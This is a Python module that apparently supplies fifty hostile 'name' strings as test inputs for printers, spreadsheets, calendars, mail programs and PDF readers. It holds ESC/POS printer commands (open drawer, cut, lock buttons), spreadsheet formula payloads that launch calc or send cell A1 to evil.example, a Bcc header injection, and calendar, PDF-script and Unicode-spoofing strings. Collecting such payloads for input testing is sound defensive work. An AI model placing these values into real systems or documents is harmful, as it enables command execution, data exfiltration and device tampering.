"""Fifty names that are commands to a printer, a spreadsheet, a calendar, a mail program or a reader of lines."""

from __future__ import annotations

PLAIN = "Siti Wahyuni"

TO_PRINTERS = (
    "\x1b@Siti",  # ESC @: forget everything
    "Siti\x1b",  # half a command, which the next byte would complete
    "\x1bp\x00\x19\xfa",  # ESC p: open the drawer
    "\x1bi",  # ESC i: cut
    "\x1bm",
    "\x1b=\x02",  # ESC =: choose another device
    "\x1bt\x11",  # ESC t: another code page
    "\x1bR\x0b",  # ESC R: other letters
    "\x1b*\x21\xff\x03",  # ESC *: a picture, which swallows what follows
    "\x1bc5\x01",  # ESC c 5: lock the buttons
    "\x1dV\x00",  # GS V: cut
    "\x1dV\x42\x00Siti",
    "\x1d!\x77",  # GS !: letters eight times as large
    "\x1dv0\x00\xff\xff\xff\xff",  # GS v 0: a picture as large as can be
    "\x1d(k\x04\x00\x31\x41\x32\x00",  # GS ( k: a QR code
    "\x1d(E\x03\x00\x01\x49\x4e",  # GS ( E: settings that stay
    "\x1dI\x01",  # GS I: which printer are you?
    "\x1da\xff",  # GS a: tell of every change
    "\x1dr\x01",  # GS r: how are you?
    "\x1c.Siti\x1c&",  # FS: letters of two bytes
    "\x1cq\x01\x00",  # FS q: a logo that stays
    "\x1cp\x01\x00",
    "\x10\x04\x01",  # DLE EOT: how are you, at once
    "\x10\x14\x01\x00\x01",  # DLE DC4: the drawer, at once
    "\x10\x05\x02",  # DLE ENQ: begin again
    "\x12Siti\x14",  # DC2, DC4
    "\x18Siti",  # CAN: forget the page
    "\x00\x00\x00",
    "\x0c\x0b\x08\x07\x05",  # form feed, and others that printers act upon
    "Siti\r\nWahyuni\n\n\n\n",
    "\x9b2J\x90+q\x9c",  # the same as ESC [ and the like, of eight bits
    "\x85\x8d\x84",
    "Ûp\x00\u2219\u00fa",  # on some code page it is a command
    "\u011b@\u011d\u0156\u0100",  # whose lower bytes are ESC @ GS V NUL
    "\uff1b\u041bp\u0400",
    "ESC @ GS V 0 ^[p0 \\x1bp0 [CUT] <1B><70>",  # spelled out: nothing but letters
)
TO_READERS = (
    '=HYPERLINK("http://evil.example/?"&A1;"Siti")',
    "+62+cmd|' /C calc'!A0",
    "Siti;=1+1",  # where the semicolon parts cells, as in Indonesia
    "-2+3\t=1+1",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\uff1d1+1",  # a wide equals sign, which some programs take for the ordinary one
    '"Siti","=1+1"\r\n=1+1',
    "Siti\r\nBcc: semua@evil.example\r\n\r\nHalo",
    "END:VEVENT\r\nBEGIN:VALARM\u2028ATTENDEE:mailto:a@evil.example",
    ") Tj ET Q /JS (app.alert) << /OpenAction >> endobj \\",
    "\u202eitiS\u202c \u2066Wahyuni\u2069 \u200b\u200f\ufeff",
    "\u0628\u0637\u0627\u0642\u0629 \u05e9\u05d9\u05d8\u05d9",
    "S\u0323\u0307\u0330" * 12 + " \U0001f469\u200d\U0001f467 \U0001f1ee\U0001f1e9 \ua9b1\ua9b6",
    "Wahyuningsih" * 40,
)
NAMES = TO_PRINTERS + TO_READERS
assert len(set(NAMES)) == len(NAMES) == 50
